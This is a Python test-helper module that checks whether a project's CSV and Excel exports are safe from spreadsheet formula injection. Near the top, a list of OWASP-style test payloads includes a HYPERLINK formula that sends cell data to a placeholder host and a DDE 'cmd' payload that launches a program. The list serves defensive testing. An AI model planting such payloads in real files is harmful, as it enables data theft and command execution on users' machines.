"""Checks that a CSV or workbook the project wrote cannot run a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl

from sufficiency.spreadsheets import FORMULA_STARTS, neutralise_text

HOSTILE = (
    '=HYPERLINK("https://example.invalid/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "harmless\r=1+1",
)
"""Text an attacker would put in a name or an uploaded cell (OWASP CSV-injection examples)."""


def _dangerous(value: object) -> bool:
    return isinstance(value, str) and neutralise_text(value) != value


def csv_cells(content: bytes | str | Path) -> list[str]:
    if isinstance(content, Path):
        content = content.read_bytes()
    if isinstance(content, bytes):
        content = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]


def assert_csv_safe(content: bytes | str | Path, *, expect_neutralised: int = 0) -> None:
    """No cell would run as a formula; at least ``expect_neutralised`` cells were defused."""
    cells = csv_cells(content)
    bad = [cell for cell in cells if _dangerous(cell)]
    assert not bad, f"cells a spreadsheet would run: {bad[:5]}"
    defused = [
        c for c in cells if c.startswith("'") and c[1:].lstrip(" ").startswith(FORMULA_STARTS)
    ]
    assert len(defused) >= expect_neutralised, f"expected defused cells, found {defused}"


def assert_workbook_safe(content: bytes | Path, *, expect_neutralised: int = 0) -> None:
    """No formula cell and no text a spreadsheet would turn into one when edited."""
    if isinstance(content, Path):
        content = content.read_bytes()
    book = openpyxl.load_workbook(io.BytesIO(content))  # not read-only: keeps formula types
    defused = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                assert cell.hyperlink is None, f"{sheet.title}!{cell.coordinate} is a link"
                value = cell.value
                if isinstance(value, str):  # Excel reads _x000D_ as a carriage return
                    value = re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)
                assert not _dangerous(value), f"{sheet.title}!{cell.coordinate}: {value!r}"
                if isinstance(value, str) and value.startswith("'"):
                    defused += value[1:].lstrip(" ").startswith(FORMULA_STARTS)
    assert defused >= expect_neutralised, f"expected {expect_neutralised} defused cells, {defused}"


def read_csv_by_name(path: str | Path, **options):
    """A CSV the command line wrote, after checking every number column's header gives its
    unit; columns renamed to their documented names (the text before `` (``)."""
    import pandas as pd

    from sufficiency.export_units import missing_units

    frame = pd.read_csv(path, **options)
    filled = frame.dropna(axis=1, how="all")  # an empty column (no earliest month) has no unit
    assert missing_units(filled) == [], f"{Path(path).name}: {missing_units(filled)}"
    return frame.rename(columns=lambda name: str(name).split(" (", 1)[0])
